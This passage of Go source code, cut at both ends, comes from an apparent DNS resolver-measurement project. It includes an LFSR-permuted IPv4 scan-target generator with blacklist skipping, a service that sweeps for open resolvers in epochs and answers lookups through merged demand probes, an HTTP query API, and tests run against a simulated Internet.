		for s := uint64(1); s < g.stride && g.emitted < g.period; s++ {
			g.reg.Next()
			g.emitted++
		}
		if bl != nil && bl.ContainsU32(u) {
			continue
		}
		dst[n] = u
		n++
	}
	return n
}

// Emitted returns how many raw permutation slots have been consumed
// (including blacklisted skips and leapfrogged slots of other shards).
func (g *TargetGenerator) Emitted() uint64 { return g.emitted }

// Skip seeks the generator forward past its next n slots without walking
// them: for a full-permutation generator that is n permutation slots, for
// shard i of M it is n of the shard's own (stride-spaced) slots. Skipped
// slots count as consumed whether or not they were blacklisted, so with a
// nil blacklist Skip(n) followed by Next yields exactly what the (n+1)-th
// Next call would have. The seek runs in O(log n) register operations —
// no replay — which is what makes a resumed or freshly-offset shard cheap
// at order 32.
func (g *TargetGenerator) Skip(n uint64) {
	if n == 0 || g.emitted >= g.period {
		return
	}
	raw := n * g.stride
	if remaining := g.period - g.emitted; raw > remaining {
		raw = remaining
	}
	g.reg.Jump(raw)
	g.emitted += raw
}

// GeneratorState is a resumable TargetGenerator position: everything
// needed to rebuild the walker and seek it back to where it stopped, in
// O(log n) time. The blacklist is not part of the state — the resumer
// supplies it, exactly as the original constructor did.
type GeneratorState struct {
	Order   uint
	Seed    uint32
	Shard   int
	Of      int
	Emitted uint64 // raw permutation slots consumed
}

// State snapshots the generator's position for later Resume.
func (g *TargetGenerator) State() GeneratorState {
	return GeneratorState{
		Order:   g.order,
		Seed:    g.seed,
		Shard:   int(g.offset),
		Of:      int(g.stride),
		Emitted: g.emitted,
	}
}

// Resume rebuilds a generator from a saved State and seeks it to the
// recorded position without replaying the permutation.
func Resume(st GeneratorState, bl *Blacklist) (*TargetGenerator, error) {
	g, err := ShardedGenerator(st.Order, st.Seed, bl, st.Shard, st.Of)
	if err != nil {
		return nil, err
	}
	if st.Emitted < g.emitted || st.Emitted > g.period {
		return nil, fmt.Errorf("lfsr: resume position %d outside shard %d/%d walk", st.Emitted, st.Shard, st.Of)
	}
	g.reg.Jump(st.Emitted - g.emitted)
	g.emitted = st.Emitted
	return g, nil
}

// Reset rewinds the generator to the start of its (shard of the)
// permutation.
func (g *TargetGenerator) Reset() {
	g.reg.Reset()
	g.reg.Jump(g.offset)
	g.emitted = g.offset
}
