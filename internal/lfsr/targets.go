package lfsr

import (
	"net/netip"
)

// TargetGenerator yields every address of an IPv4 scan space exactly once
// in LFSR-permuted order, skipping blacklisted addresses. The space is the
// low 2^order addresses of IPv4 when order < 32 (the scaled-down virtual
// Internet), or all of IPv4 for order 32.
//
// The LFSR never emits state 0, so address 0 — which is always inside the
// reserved 0.0.0.0/8 block — needs no special casing.
type TargetGenerator struct {
	reg       *LFSR
	blacklist *Blacklist
	emitted   uint64
	period    uint64
}

// NewTargetGenerator builds a generator over a 2^order address space. A
// nil blacklist skips nothing.
func NewTargetGenerator(order uint, seed uint32, bl *Blacklist) (*TargetGenerator, error) {
	reg, err := New(order, seed)
	if err != nil {
		return nil, err
	}
	return &TargetGenerator{reg: reg, blacklist: bl, period: reg.Period()}, nil
}

// Next returns the next non-blacklisted target. ok is false once the full
// permutation has been exhausted.
func (g *TargetGenerator) Next() (addr netip.Addr, ok bool) {
	for g.emitted < g.period {
		u := g.reg.Next()
		g.emitted++
		if g.blacklist != nil && g.blacklist.ContainsU32(u) {
			continue
		}
		return U32ToAddr(u), true
	}
	return netip.Addr{}, false
}

// NextU32 is Next without the netip conversion, for hot scan loops.
//
//lint:hotpath per-probe target generation; senders pull these in a tight loop
func (g *TargetGenerator) NextU32() (u uint32, ok bool) {
	for g.emitted < g.period {
		v := g.reg.Next()
		g.emitted++
		if g.blacklist != nil && g.blacklist.ContainsU32(v) {
			continue
		}
		return v, true
	}
	return 0, false
}

// NextBatch fills dst with the next non-blacklisted targets and reports
// how many it produced. A short (or zero) count only happens at the end of
// the permutation. Streaming senders pull batches under a shared lock so
// the generator is touched once per batch, not once per probe.
//
//lint:hotpath per-probe target generation; senders pull these in a tight loop
func (g *TargetGenerator) NextBatch(dst []uint32) int {
	n := 0
	for n < len(dst) && g.emitted < g.period {
		u := g.reg.Next()
		g.emitted++
		if g.blacklist != nil && g.blacklist.ContainsU32(u) {
			continue
		}
		dst[n] = u
		n++
	}
	return n
}

// Emitted returns how many LFSR states have been consumed (including
// blacklisted skips).
func (g *TargetGenerator) Emitted() uint64 { return g.emitted }

// Reset rewinds the generator to the start of its permutation.
func (g *TargetGenerator) Reset() {
	g.reg.Reset()
	g.emitted = 0
}
