package resolvesvc

import (
	"context"
	"errors"
	"fmt"
	"sort"
	"sync"
	"time"

	"goingwild/internal/churn"
	"goingwild/internal/dnswire"
	"goingwild/internal/domains"
	"goingwild/internal/lfsr"
	"goingwild/internal/metrics"
	"goingwild/internal/pipeline"
	"goingwild/internal/scanner"
	"goingwild/internal/wildnet"
)

// Config parameterizes the service's continuous epoch loop.
type Config struct {
	// Order and ScanSeed select the target space and the per-epoch seed
	// schedule, exactly as the one-shot studies do.
	Order    uint
	ScanSeed uint32
	// Epochs is how many weekly sweeps the producer runs before the
	// stream ends (a daemon passes a large horizon; tests pass a few).
	Epochs int
	// QueueDepth bounds how many committed-but-unapplied epoch deltas
	// may buffer between the producer and the store (default 2) — the
	// same backpressure seam the streaming engine uses.
	QueueDepth int
	// TTLBase seeds the churn-aware refresh TTL (see Store.Fresh);
	// <= 0 selects DefaultTTLBase.
	TTLBase int
	// BatchWindow is how long the coalescer lingers after the first
	// cache miss of a tick so concurrent misses for the same targets
	// pile into one probe batch. Zero probes immediately.
	BatchWindow time.Duration
	// Blacklist is excluded from sweeps, as everywhere else.
	Blacklist *lfsr.Blacklist
	// OnEpoch, when set, observes each committed epoch (live logging;
	// pure side channel).
	OnEpoch func(EpochStatus)
}

// Deps are the service's collaborators. The sweep scanner and the
// prober MUST ride separate transports: scanner.ProbeContext installs
// its own receiver on its transport, so a demand probe sharing the
// sweep's transport would steal the sweep's receiver mid-epoch. The
// world itself is immutable after construction, so two MemTransports
// over it observe identical resolver behavior.
type Deps struct {
	// Scanner runs the weekly sweeps (the epoch producer).
	Scanner *scanner.Scanner
	// SweepClock advances the producer transport's simulated time.
	SweepClock churn.Clock
	// Prober sends demand probes for cache misses on its own transport.
	Prober *scanner.Scanner
	// ProbeClock pins the prober transport to the last committed epoch,
	// so demand probes observe the same world state the store serves.
	ProbeClock churn.Clock
	// Locator maps addresses to country/RIR for new records.
	Locator churn.Locator
	// Metrics receives the service counters; nil disables them.
	Metrics *metrics.Registry
	// WallClock paces the coalescer's batch window and the load
	// generator's latency measurements (default scanner.SystemClock).
	WallClock scanner.Clock
}

// EpochStatus is the live per-epoch observation handed to OnEpoch.
type EpochStatus struct {
	Epoch   int
	Probed  uint64
	Deltas  int
	Records int
	Open    int
	Lag     int
}

// Result is one lookup's answer.
type Result struct {
	Record Record
	// Epoch is the committed epoch the answer was served at.
	Epoch int
	// Source is "store" for a fresh-record hit, "probe" when the answer
	// came from a (possibly coalesced) demand probe.
	Source string
}

// ErrStopped is returned by lookups whose demand probe was abandoned
// because the service is shutting down.
var ErrStopped = errors.New("resolvesvc: service stopped")

// svcMetrics bundles the service's registry handles (all nil-safe).
type svcMetrics struct {
	// Request-path counters are Timing class: how many lookups hit,
	// miss, refresh, or coalesce depends on request arrival relative to
	// epoch commits — schedule, not seed.
	hit       *metrics.Counter
	miss      *metrics.Counter
	refresh   *metrics.Counter
	coalesced *metrics.Counter
	probes    *metrics.Counter
	// Epoch-side state is Deterministic: after epoch k the committed
	// count and the sweep-born store shape are a pure function of
	// (order, seed) — the same contract the streaming engine keeps.
	epochs  *metrics.Counter
	records *metrics.Gauge
	open    *metrics.Gauge
	// lag is the producer's lead over the applier in buffered epochs,
	// a scheduling observation (Timing, like pipeline queue depths).
	lag *metrics.Gauge
}

func newSvcMetrics(reg *metrics.Registry) svcMetrics {
	if reg == nil {
		return svcMetrics{}
	}
	return svcMetrics{
		hit:       reg.TimingCounter("svc.lookup.hit"),
		miss:      reg.TimingCounter("svc.lookup.miss"),
		refresh:   reg.TimingCounter("svc.lookup.refresh"),
		coalesced: reg.TimingCounter("svc.lookup.coalesced"),
		probes:    reg.TimingCounter("svc.probe.done"),
		epochs:    reg.Counter("svc.epoch.done"),
		records:   reg.Gauge("svc.store.records"),
		open:      reg.Gauge("svc.store.open"),
		lag:       reg.TimingGauge("svc.epoch.lag"),
	}
}

// inflight is one in-progress demand probe; every lookup coalesced onto
// it waits for done and reads rec/err.
type inflight struct {
	done chan struct{}
	rec  Record
	err  error
}

// Service is the resolver-intelligence daemon core: a continuously
// refreshed store plus a coalescing demand-prober.
type Service struct {
	cfg   Config
	deps  Deps
	store *Store

	// tracker mirrors the epoch stream's aggregates (per-rcode, country,
	// RIR) so status endpoints can serve live churn tables.
	trackerMu sync.Mutex
	tracker   *churn.Tracker

	// pending holds the cache misses awaiting the next probe tick,
	// keyed by target; wake (capacity 1) nudges the coalescer.
	mu      sync.Mutex
	pending map[uint32]*inflight
	wake    chan struct{}

	// probeFn performs one demand probe and records it in the store.
	// It defaults to demandProbe; tests inject deterministic stand-ins.
	probeFn func(ctx context.Context, addr uint32) (Record, error)

	m svcMetrics
}

// New builds a service. It does not start anything; Run does.
func New(cfg Config, deps Deps) *Service {
	if cfg.QueueDepth < 1 {
		cfg.QueueDepth = 2
	}
	if deps.WallClock == nil {
		deps.WallClock = scanner.SystemClock
	}
	s := &Service{
		cfg:     cfg,
		deps:    deps,
		store:   NewStore(cfg.TTLBase),
		tracker: churn.NewTracker(deps.Locator, nil),
		pending: map[uint32]*inflight{},
		wake:    make(chan struct{}, 1),
		m:       newSvcMetrics(deps.Metrics),
	}
	s.probeFn = s.demandProbe
	return s
}

// Store exposes the result store (read-side consumers: HTTP handlers,
// load generator, tests).
func (s *Service) Store() *Store { return s.store }

// Series returns a point-in-time copy of the tracker's weekly series —
// the same aggregates the batch study would have produced so far.
func (s *Service) Series() churn.Series {
	s.trackerMu.Lock()
	defer s.trackerMu.Unlock()
	ser := s.tracker.Series()
	out := churn.Series{Weeks: make([]churn.WeekObservation, len(ser.Weeks))}
	copy(out.Weeks, ser.Weeks)
	return out
}

// Run drives the epoch loop: the producer re-sweeps the space epoch
// after epoch behind a bounded queue, and the applier commits each
// delta batch to the tracker and the store. Run returns once all
// cfg.Epochs have been applied (or ctx dies, or the stream breaks its
// contract). The coalescer keeps serving demand probes until ctx is
// cancelled — a daemon cancels on shutdown, which fails any still-
// waiting lookups with ErrStopped.
func (s *Service) Run(ctx context.Context) error {
	q := pipeline.NewQueue[churn.EpochDelta](s.cfg.QueueDepth)
	prodErr := make(chan error, 1)
	prodCtx, cancelProd := context.WithCancel(ctx)
	defer cancelProd()
	go func() {
		err := churn.StreamWeekly(prodCtx, s.deps.Scanner, s.deps.SweepClock, churn.StudyConfig{
			Order:     s.cfg.Order,
			Seed:      s.cfg.ScanSeed,
			Weeks:     s.cfg.Epochs,
			Blacklist: s.cfg.Blacklist,
		}, q.Put)
		q.Close()
		prodErr <- err
	}()
	go s.coalesce(ctx)

	for {
		d, ok, err := q.Get(ctx)
		if err != nil {
			return err
		}
		if !ok {
			break
		}
		lag := q.Len()
		s.trackerMu.Lock()
		_, err = s.tracker.Apply(d)
		s.trackerMu.Unlock()
		if err != nil {
			return err
		}
		if err := s.store.ApplyEpoch(d.Week, d.Deltas, s.deps.Locator); err != nil {
			return err
		}
		// Demand probes now observe the world at the committed epoch's
		// time, matching what the store just published.
		if s.deps.ProbeClock != nil {
			s.deps.ProbeClock.SetTime(wildnet.At(d.Week))
		}
		s.m.epochs.Inc()
		s.m.lag.Set(int64(lag))
		s.m.records.Set(int64(s.store.Records()))
		s.m.open.Set(int64(s.store.OpenCount()))
		if s.cfg.OnEpoch != nil {
			s.cfg.OnEpoch(EpochStatus{
				Epoch:   d.Week,
				Probed:  d.Probed,
				Deltas:  len(d.Deltas),
				Records: s.store.Records(),
				Open:    s.store.OpenCount(),
				Lag:     lag,
			})
		}
	}
	return <-prodErr
}

// Lookup answers "what do we know about this IP". A record the store
// can vouch for (present and fresh at the committed epoch) is a pure
// in-memory hit. Anything else — absent record, or a flappy record past
// its refresh TTL — funnels into the coalescer: the first lookup per
// target enqueues a demand probe, concurrent lookups for the same
// target coalesce onto it, and everyone wakes with the probe's answer.
func (s *Service) Lookup(ctx context.Context, addr uint32) (Result, error) {
	epoch := s.store.Epoch()
	if r, ok := s.store.Get(addr); ok {
		if s.store.Fresh(r, epoch) {
			s.m.hit.Inc()
			return Result{Record: r, Epoch: epoch, Source: "store"}, nil
		}
		s.m.refresh.Inc()
	} else {
		s.m.miss.Inc()
	}
	return s.await(ctx, addr)
}

// await joins (or opens) the in-flight probe for addr and waits it out.
func (s *Service) await(ctx context.Context, addr uint32) (Result, error) {
	s.mu.Lock()
	fl, ok := s.pending[addr]
	if ok {
		s.m.coalesced.Inc()
	} else {
		fl = &inflight{done: make(chan struct{})}
		s.pending[addr] = fl
		select {
		case s.wake <- struct{}{}:
		default:
		}
	}
	s.mu.Unlock()
	select {
	case <-fl.done:
		if fl.err != nil {
			return Result{}, fl.err
		}
		return Result{Record: fl.rec, Epoch: s.store.Epoch(), Source: "probe"}, nil
	case <-ctx.Done():
		return Result{}, ctx.Err()
	}
}

// coalesce is the demand-probe loop: each wake-up lingers BatchWindow
// (so a burst of concurrent misses lands in one tick), swaps out the
// pending set, and probes it in address order. It runs until ctx dies,
// then fails whatever is still queued.
func (s *Service) coalesce(ctx context.Context) {
	for {
		select {
		case <-ctx.Done():
			s.failPending()
			return
		case <-s.wake:
		}
		if w := s.cfg.BatchWindow; w > 0 {
			if sleepCtx(ctx, s.deps.WallClock, w) != nil {
				s.failPending()
				return
			}
		}
		s.mu.Lock()
		batch := s.pending
		s.pending = map[uint32]*inflight{}
		s.mu.Unlock()
		addrs := make([]uint32, 0, len(batch))
		for a := range batch {
			addrs = append(addrs, a)
		}
		sort.Slice(addrs, func(i, j int) bool { return addrs[i] < addrs[j] })
		for _, a := range addrs {
			fl := batch[a]
			fl.rec, fl.err = s.probeFn(ctx, a)
			s.m.probes.Inc()
			close(fl.done)
		}
	}
}

// failPending wakes every queued lookup with ErrStopped.
func (s *Service) failPending() {
	s.mu.Lock()
	batch := s.pending
	s.pending = map[uint32]*inflight{}
	s.mu.Unlock()
	for _, fl := range batch {
		fl.err = ErrStopped
		close(fl.done)
	}
}

// demandProbe sends one on-demand query at addr through the prober
// transport and folds the observation into the store. The qname prefix
// ("q"+hex) differs from the sweep's ("r"+hex) and the alive-probe's
// ("c"+hex), so a demand probe is a distinct packet identity with its
// own fault draws — it can never perturb the sweep's loss schedule.
func (s *Service) demandProbe(ctx context.Context, addr uint32) (Record, error) {
	name := dnswire.EncodeTargetQName(fmt.Sprintf("q%x", addr&0xFFFF), lfsr.U32ToAddr(addr), domains.ScanBase)
	msgs, err := s.deps.Prober.ProbeContext(ctx, addr, name, dnswire.TypeA, dnswire.ClassIN)
	if err != nil && len(msgs) == 0 {
		return Record{}, err
	}
	open := len(msgs) > 0
	var rcode dnswire.RCode
	var answered bool
	if open {
		m := msgs[0]
		rcode = m.Header.RCode
		for _, rr := range m.Answers {
			if rr.Type() == dnswire.TypeA {
				answered = true
				break
			}
		}
	}
	return s.store.RecordProbe(addr, s.store.Epoch(), open, rcode, answered, s.deps.Locator), nil
}

// sleepCtx sleeps d on the clock, cut short by ctx. Clocks implementing
// scanner.ContextSleeper (the system clock does) get the cancellation
// handed to them; plain fake clocks sleep directly.
func sleepCtx(ctx context.Context, c scanner.Clock, d time.Duration) error {
	if cs, ok := c.(scanner.ContextSleeper); ok {
		return cs.SleepContext(ctx, d)
	}
	if err := ctx.Err(); err != nil {
		return err
	}
	c.Sleep(d)
	return ctx.Err()
}
