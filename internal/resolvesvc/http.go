package resolvesvc

import (
	"encoding/json"
	"net/http"
	"net/netip"
	"strconv"

	"goingwild/internal/lfsr"
)

// This file is the service's HTTP/JSON query API. The handlers are
// plain http.Handlers so cmd/wildsvc can mount them on the debughttp
// endpoint's mux (its Route seam) — the service itself never opens a
// socket; DESIGN.md's "no library code starts an HTTP server" rule
// stays intact.

// LookupResponse is /resolver's JSON shape.
type LookupResponse struct {
	IP       string `json:"ip"`
	Known    bool   `json:"known"`
	Open     bool   `json:"open"`
	RCode    string `json:"rcode,omitempty"`
	Answered bool   `json:"answered"`
	Country  string `json:"country,omitempty"`
	RIR      string `json:"rir,omitempty"`
	// FirstSeenEpoch/LastSeenEpoch are -1 for probe-born records no
	// sweep has observed.
	FirstSeenEpoch int `json:"first_seen_epoch"`
	LastSeenEpoch  int `json:"last_seen_epoch"`
	Flaps          int `json:"flaps"`
	// Epoch is the committed epoch the answer was served at; Source is
	// "store" or "probe".
	Epoch  int    `json:"epoch"`
	Source string `json:"source"`
}

// StatusResponse is /svc/status's JSON shape.
type StatusResponse struct {
	Epoch   int `json:"epoch"`
	Records int `json:"records"`
	Open    int `json:"open"`
	Pending int `json:"pending"`
}

func lookupResponse(res Result) LookupResponse {
	r := res.Record
	out := LookupResponse{
		IP:             lfsr.U32ToAddr(r.Addr).String(),
		Known:          true,
		Open:           r.Open,
		Answered:       r.Answered,
		Country:        r.Country,
		FirstSeenEpoch: r.FirstSeen,
		LastSeenEpoch:  r.LastSeen,
		Flaps:          r.Flaps,
		Epoch:          res.Epoch,
		Source:         res.Source,
	}
	if r.Open {
		out.RCode = r.RCode.String()
	}
	if r.Country != "" {
		out.RIR = r.RIR.String()
	}
	return out
}

func writeJSON(w http.ResponseWriter, status int, v any) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(status)
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	// A failed response write means the client went away.
	enc.Encode(v)
}

func httpError(w http.ResponseWriter, status int, msg string) {
	writeJSON(w, status, map[string]string{"error": msg})
}

// handleResolver answers GET /resolver?ip=A.B.C.D.
func (s *Service) handleResolver(w http.ResponseWriter, req *http.Request) {
	ipStr := req.URL.Query().Get("ip")
	if ipStr == "" {
		httpError(w, http.StatusBadRequest, "missing ip parameter")
		return
	}
	addr, err := netip.ParseAddr(ipStr)
	if err != nil || !addr.Is4() {
		httpError(w, http.StatusBadRequest, "ip must be a dotted-quad IPv4 address")
		return
	}
	res, err := s.Lookup(req.Context(), lfsr.AddrToU32(addr))
	if err != nil {
		httpError(w, http.StatusServiceUnavailable, err.Error())
		return
	}
	writeJSON(w, http.StatusOK, lookupResponse(res))
}

// handleResolvers answers GET /resolvers?limit=N&open=1 with the
// store's records sorted by address.
func (s *Service) handleResolvers(w http.ResponseWriter, req *http.Request) {
	q := req.URL.Query()
	limit := 100
	if ls := q.Get("limit"); ls != "" {
		n, err := strconv.Atoi(ls)
		if err != nil || n < 0 {
			httpError(w, http.StatusBadRequest, "limit must be a non-negative integer")
			return
		}
		limit = n
	}
	openOnly := q.Get("open") == "1"
	epoch := s.store.Epoch()
	recs := s.store.List(openOnly, limit)
	out := make([]LookupResponse, 0, len(recs))
	for _, r := range recs {
		out = append(out, lookupResponse(Result{Record: r, Epoch: epoch, Source: "store"}))
	}
	writeJSON(w, http.StatusOK, out)
}

// handleStatus answers GET /svc/status.
func (s *Service) handleStatus(w http.ResponseWriter, _ *http.Request) {
	s.mu.Lock()
	pending := len(s.pending)
	s.mu.Unlock()
	writeJSON(w, http.StatusOK, StatusResponse{
		Epoch:   s.store.Epoch(),
		Records: s.store.Records(),
		Open:    s.store.OpenCount(),
		Pending: pending,
	})
}

// APIRoute is one mountable query-API endpoint.
type APIRoute struct {
	Pattern string
	Handler http.Handler
}

// APIRoutes returns the query API as pattern/handler pairs for the
// caller to mount (cmd/wildsvc feeds them to debughttp.Serve).
func (s *Service) APIRoutes() []APIRoute {
	return []APIRoute{
		{Pattern: "/resolver", Handler: http.HandlerFunc(s.handleResolver)},
		{Pattern: "/resolvers", Handler: http.HandlerFunc(s.handleResolvers)},
		{Pattern: "/svc/status", Handler: http.HandlerFunc(s.handleStatus)},
	}
}
