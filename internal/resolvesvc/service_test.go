package resolvesvc

import (
	"bytes"
	"context"
	"sync"
	"testing"
	"time"

	"goingwild/internal/churn"
	"goingwild/internal/dnswire"
	"goingwild/internal/geodb"
	"goingwild/internal/lfsr"
	"goingwild/internal/metrics"
	"goingwild/internal/scanner"
	"goingwild/internal/wildnet"
)

// testWorld bundles one simulated world with the service's two
// transports (sweep + prober) and its locator.
type testWorld struct {
	world   *wildnet.World
	sweepTr *wildnet.MemTransport
	probeTr *wildnet.MemTransport
	deps    Deps
	bl      *lfsr.Blacklist
}

func newTestWorld(t *testing.T, order uint, reg *metrics.Registry) *testWorld {
	t.Helper()
	wcfg := wildnet.DefaultConfig(order)
	wcfg.Seed = 0x60176A11D
	wcfg.Loss = 0.002
	w, err := wildnet.NewWorld(wcfg)
	if err != nil {
		t.Fatal(err)
	}
	sweepTr := wildnet.NewMemTransport(w, wildnet.VantagePrimary)
	probeTr := wildnet.NewMemTransport(w, wildnet.VantagePrimary)
	t.Cleanup(func() {
		sweepTr.Close()
		probeTr.Close()
	})
	opts := scanner.Options{Workers: 4, SettleDelay: scanner.NoSettle, Metrics: reg}
	loc := func(u uint32) (string, geodb.RIR) {
		l := w.Geo().LookupU32(u)
		return l.Country, l.RIR
	}
	return &testWorld{
		world:   w,
		sweepTr: sweepTr,
		probeTr: probeTr,
		bl:      w.ScanBlacklist(),
		deps: Deps{
			Scanner:    scanner.New(sweepTr, opts),
			SweepClock: sweepTr,
			Prober:     scanner.New(probeTr, scanner.Options{Workers: 2, SettleDelay: scanner.NoSettle, Metrics: reg}),
			ProbeClock: probeTr,
			Locator:    loc,
			Metrics:    reg,
			WallClock:  scanner.SystemClock,
		},
	}
}

func runService(t *testing.T, order uint, epochs int, reg *metrics.Registry) (*Service, *testWorld) {
	t.Helper()
	tw := newTestWorld(t, order, reg)
	svc := New(Config{Order: order, ScanSeed: 0x5EED, Epochs: epochs, Blacklist: tw.bl}, tw.deps)
	ctx, cancel := context.WithCancel(context.Background())
	t.Cleanup(cancel)
	if err := svc.Run(ctx); err != nil {
		t.Fatalf("Run: %v", err)
	}
	return svc, tw
}

// TestServiceStoreMatchesBatchStudy is the end-to-end parity proof: the
// service's store after N streamed epochs must agree, record for
// record, with the batch weekly study over an identical world — same
// responder set, same rcodes, and aggregate totals equal to the
// tracker's (and therefore the batch series') final week.
func TestServiceStoreMatchesBatchStudy(t *testing.T) {
	const order, epochs = 14, 4
	svc, _ := runService(t, order, epochs, nil)
	store := svc.Store()

	// An identical world, measured by the batch path.
	wcfg := wildnet.DefaultConfig(order)
	wcfg.Seed = 0x60176A11D
	wcfg.Loss = 0.002
	w2, err := wildnet.NewWorld(wcfg)
	if err != nil {
		t.Fatal(err)
	}
	tr2 := wildnet.NewMemTransport(w2, wildnet.VantagePrimary)
	defer tr2.Close()
	sc2 := scanner.New(tr2, scanner.Options{Workers: 4, SettleDelay: scanner.NoSettle})
	loc2 := func(u uint32) (string, geodb.RIR) {
		l := w2.Geo().LookupU32(u)
		return l.Country, l.RIR
	}
	series, err := churn.RunWeekly(context.Background(), sc2, tr2, loc2, churn.StudyConfig{
		Order: order, Seed: 0x5EED, Weeks: epochs,
		Blacklist:   w2.ScanBlacklist(),
		RetainWeeks: []int{epochs - 1},
	})
	if err != nil {
		t.Fatal(err)
	}
	last := series.Last()
	if store.OpenCount() != last.Total {
		t.Fatalf("store open = %d, batch final week total = %d", store.OpenCount(), last.Total)
	}
	for _, resp := range last.Responders {
		r, ok := store.Get(resp.Addr)
		if !ok || !r.Open {
			t.Fatalf("batch responder %08x missing/closed in store: %+v", resp.Addr, r)
		}
		if r.RCode != resp.RCode || r.Answered != resp.Answered {
			t.Fatalf("store record %08x = %+v, batch responder = %+v", resp.Addr, r, resp)
		}
		// Deltas only touch records on change, so a stably-open record
		// keeps LastSeen at its add epoch — it just can't postdate the
		// committed epoch.
		if r.LastSeen < r.FirstSeen || r.LastSeen > epochs-1 {
			t.Fatalf("store record %08x seen range [%d,%d] out of bounds", resp.Addr, r.FirstSeen, r.LastSeen)
		}
	}
	// And the tracker mirrors the batch series week for week.
	got := svc.Series()
	if len(got.Weeks) != epochs {
		t.Fatalf("tracker series has %d weeks, want %d", len(got.Weeks), epochs)
	}
	for i := range got.Weeks {
		if got.Weeks[i].Total != series.Weeks[i].Total {
			t.Fatalf("week %d: tracker total %d, batch total %d", i, got.Weeks[i].Total, series.Weeks[i].Total)
		}
	}
	if store.Epoch() != epochs-1 {
		t.Fatalf("store epoch = %d, want %d", store.Epoch(), epochs-1)
	}
}

func TestServiceLookupHitThenProbeThenHit(t *testing.T) {
	reg := metrics.New()
	svc, _ := runService(t, 14, 3, reg)
	ctx := context.Background()

	open := svc.Store().List(true, 1)
	if len(open) == 0 {
		t.Fatal("no open resolvers after 3 epochs")
	}
	res, err := svc.Lookup(ctx, open[0].Addr)
	if err != nil {
		t.Fatal(err)
	}
	if res.Source != "store" || !res.Record.Open || res.Epoch != 2 {
		t.Fatalf("known-record lookup: %+v", res)
	}
	if reg.Snapshot().Counter("svc.lookup.hit") != 1 {
		t.Fatalf("hit counter = %d, want 1", reg.Snapshot().Counter("svc.lookup.hit"))
	}

	// A never-swept address goes through the demand probe and is cached.
	var missAddr uint32
	for a := uint32(1); a < 1<<14; a++ {
		if _, ok := svc.Store().Get(a); !ok {
			missAddr = a
			break
		}
	}
	res, err = svc.Lookup(ctx, missAddr)
	if err != nil {
		t.Fatal(err)
	}
	if res.Source != "probe" || res.Record.FirstSeen != NeverSeen || !res.Record.Probed {
		t.Fatalf("miss lookup: %+v", res)
	}
	snap := reg.Snapshot()
	if snap.Counter("svc.lookup.miss") != 1 || snap.Counter("svc.probe.done") != 1 {
		t.Fatalf("miss=%d probes=%d, want 1/1", snap.Counter("svc.lookup.miss"), snap.Counter("svc.probe.done"))
	}
	// The probe-born record now serves from memory.
	res, err = svc.Lookup(ctx, missAddr)
	if err != nil {
		t.Fatal(err)
	}
	if res.Source != "store" {
		t.Fatalf("second lookup of probed target: %+v", res)
	}
	if snap := reg.Snapshot(); snap.Counter("svc.probe.done") != 1 {
		t.Fatalf("probe re-sent for cached target: %d", snap.Counter("svc.probe.done"))
	}
}

// gateClock blocks every Sleep until the test releases it, making the
// coalescer's batch window a deterministic rendezvous.
type gateClock struct {
	release chan struct{}
}

func (g *gateClock) Now() time.Time        { return time.Unix(0, 0) }
func (g *gateClock) Sleep(_ time.Duration) { <-g.release }

// TestServiceCoalescing pins the singleflight contract deterministically:
// 8 concurrent lookups for one cold target must produce exactly one
// probe, with the other 7 coalescing onto it. The gate clock holds the
// coalescer's batch window open until every request has joined.
func TestServiceCoalescing(t *testing.T) {
	reg := metrics.New()
	gate := &gateClock{release: make(chan struct{})}
	svc := New(Config{Order: 12, BatchWindow: time.Millisecond}, Deps{
		Locator:   testLoc,
		Metrics:   reg,
		WallClock: gate,
	})
	var probes int
	var probeMu sync.Mutex
	svc.probeFn = func(_ context.Context, addr uint32) (Record, error) {
		probeMu.Lock()
		probes++
		probeMu.Unlock()
		return svc.store.RecordProbe(addr, 0, true, dnswire.RCodeNoError, true, testLoc), nil
	}
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	go svc.coalesce(ctx)

	const fanout = 8
	const target = 42
	results := make([]Result, fanout)
	errs := make([]error, fanout)
	var wg sync.WaitGroup
	for i := 0; i < fanout; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			results[i], errs[i] = svc.Lookup(ctx, target)
		}(i)
	}
	// Wait until all 8 are parked on the single inflight entry, then
	// release the batch window.
	deadline := time.Now().Add(5 * time.Second)
	for reg.Snapshot().Counter("svc.lookup.coalesced") != fanout-1 {
		if time.Now().After(deadline) {
			t.Fatalf("coalesced = %d, want %d", reg.Snapshot().Counter("svc.lookup.coalesced"), fanout-1)
		}
	}
	close(gate.release)
	wg.Wait()

	for i := 0; i < fanout; i++ {
		if errs[i] != nil {
			t.Fatalf("lookup %d: %v", i, errs[i])
		}
		if results[i].Source != "probe" || !results[i].Record.Open {
			t.Fatalf("lookup %d result: %+v", i, results[i])
		}
	}
	if probes != 1 {
		t.Fatalf("probe ran %d times, want 1 (singleflight)", probes)
	}
	snap := reg.Snapshot()
	if snap.Counter("svc.lookup.miss") != fanout {
		t.Errorf("miss = %d, want %d (every burst lookup found no record)", snap.Counter("svc.lookup.miss"), fanout)
	}
	if snap.Counter("svc.probe.done") != 1 {
		t.Errorf("probe.done = %d, want 1", snap.Counter("svc.probe.done"))
	}
}

// TestServiceStaleRecordRefreshes pins the churn-aware TTL: a flappy
// record past its refresh window is re-confirmed by a demand probe
// instead of served stale, and the refreshed record then hits.
func TestServiceStaleRecordRefreshes(t *testing.T) {
	reg := metrics.New()
	svc := New(Config{Order: 12, TTLBase: 4}, Deps{
		Locator:   testLoc,
		Metrics:   reg,
		WallClock: scanner.SystemClock,
	})
	svc.probeFn = func(_ context.Context, addr uint32) (Record, error) {
		return svc.store.RecordProbe(addr, svc.store.Epoch(), true, dnswire.RCodeNoError, true, testLoc), nil
	}
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	go svc.coalesce(ctx)

	// Epoch history: target 7 appears, vanishes, reappears (one flap,
	// TTL 4>>1 = 2), then the world stays quiet long past its TTL.
	st := svc.store
	mustApply := func(e int, ds ...scanner.ResponderDelta) {
		t.Helper()
		if err := st.ApplyEpoch(e, ds, testLoc); err != nil {
			t.Fatal(err)
		}
	}
	mustApply(0, add(7, dnswire.RCodeNoError))
	mustApply(1, remove(7))
	mustApply(2, add(7, dnswire.RCodeNoError))
	mustApply(3)
	mustApply(4)

	res, err := svc.Lookup(ctx, 7)
	if err != nil {
		t.Fatal(err)
	}
	if res.Source != "probe" {
		t.Fatalf("stale flappy record served from store: %+v", res)
